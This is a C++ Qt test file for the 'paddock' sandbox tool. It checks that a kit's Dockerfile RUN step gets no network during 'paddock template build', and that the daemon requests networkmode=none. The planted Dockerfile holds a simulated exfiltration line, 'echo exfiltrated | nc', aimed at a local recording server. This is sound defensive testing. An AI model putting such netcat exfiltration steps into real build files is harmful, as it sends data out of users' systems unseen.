// SPDX-License-Identifier: GPL-3.0-or-later
// Attack: a kit's Dockerfile whose RUN step reaches for the network while `paddock template
// build` builds it, outside every rule and every sandbox (a bundle can carry such a kit). The
// real CLI, daemon and Docker Engine, as an ordinary user in the group docker; the engine is
// reached through a relay that records what the daemon asked of it. The RUN step aims at a
// server on one of the host's own addresses, which records that nothing arrived.
#include "AttackSupport.h"

#include "Needs.h"

#include <QLocalSocket>
#include <QNetworkInterface>

using paddock::test::Finished;
using paddock::test::RecordingServer;
using paddock::test::SandboxFixture;

namespace {

const QString kEngine = QStringLiteral("/var/run/docker.sock");
const QString kImage = QStringLiteral("paddock-attack/build-egress:test");

} // namespace

class TestDockerBuild : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void runStepsHaveNoNetwork();
    void cleanupTestCase();

private:
    std::unique_ptr<SandboxFixture> m_fixture;
    QProcess m_relay;
    RecordingServer m_listener;
};

void TestDockerBuild::initTestCase()
{
    QVERIFY2(::getuid() != 0, "run through tests/support/run-as-user.sh");
    QLocalSocket engine;
    engine.connectToServer(kEngine);
    PADDOCK_NEED(engine.waitForConnected(2000), "a Docker Engine on /var/run/docker.sock for this user");
    PADDOCK_NEED(QFileInfo(QStringLiteral("/bin/busybox")).isExecutable(), "busybox-static, for the image");
    m_fixture = std::make_unique<SandboxFixture>();
    const QString relay = m_fixture->path(QStringLiteral("engine.sock"));
    m_relay.start(QStringLiteral("python3"), {paddock::test::securityScript(QStringLiteral("engine_relay.py")), relay,
                                              kEngine, m_fixture->path(QStringLiteral("engine-requests.log"))});
    QVERIFY(m_relay.waitForReadyRead(10000));
    m_fixture->addEnvironment(QStringLiteral("DOCKER_HOST"), QStringLiteral("unix://") + relay);
    QVERIFY2(m_fixture->setUp(), "the fixture did not start (python3, paddockd)");
    QVERIFY(m_listener.start(QHostAddress::AnyIPv4));
}

void TestDockerBuild::runStepsHaveNoNetwork()
{
    QString hostAddress;
    for (const QHostAddress &address : QNetworkInterface::allAddresses()) {
        if (address.protocol() == QAbstractSocket::IPv4Protocol && !address.isLoopback() && hostAddress.isEmpty())
            hostAddress = address.toString();
    }
    if (hostAddress.isEmpty())
        QSKIP("this machine has no address but loopback");
    const QString kit = m_fixture->path(QStringLiteral("egress-kit"));
    QVERIFY(paddock::test::writeFile(kit + QStringLiteral("/spec.yaml"),
                                     QStringLiteral("schemaVersion: \"2\"\nkind: sandbox\nname: egress\n"
                                                    "sandbox:\n  image: %1\n")
                                         .arg(kImage)
                                         .toUtf8()));
    QVERIFY(QFile::copy(QStringLiteral("/bin/busybox"), kit + QStringLiteral("/busybox")));
    QVERIFY(paddock::test::writeFile(
        kit + QStringLiteral("/Dockerfile"),
        QStringLiteral(
            "FROM scratch\nCOPY busybox /bin/busybox\nRUN [\"/bin/busybox\", \"--install\", \"-s\", \"/bin\"]\n"
            "RUN echo exfiltrated | nc -w 3 %1 %2; true\n")
            .arg(hostAddress)
            .arg(m_listener.port())
            .toUtf8()));

    const Finished build = m_fixture->paddock({QStringLiteral("template"), QStringLiteral("build"),
                                               QStringLiteral("--kit"), kit, QStringLiteral("--no-cache")});
    QVERIFY2(build.exitCode == 0, qPrintable(build.out + build.err));
    QCOMPARE(m_listener.connections(), 0);
    // The daemon asked for a build without network.
    const QByteArray requests = paddock::test::readFile(m_fixture->path(QStringLiteral("engine-requests.log")));
    QByteArray buildRequest;
    for (const QByteArray &line : requests.split('\n')) {
        if (line.startsWith("POST ") && line.contains("/build?"))
            buildRequest = line;
    }
    QVERIFY2(!buildRequest.isEmpty(), requests.constData());
    QVERIFY2(buildRequest.contains("networkmode=none"), buildRequest.constData());
}

void TestDockerBuild::cleanupTestCase()
{
    if (m_fixture) {
        QProcess remove;
        remove.start(QStringLiteral("docker"),
                     {QStringLiteral("image"), QStringLiteral("rm"), QStringLiteral("-f"), kImage});
        remove.waitForFinished(60000);
    }
    m_relay.kill();
    m_relay.waitForFinished();
}

QTEST_GUILESS_MAIN(TestDockerBuild)
#include "tst_docker_build.moc"
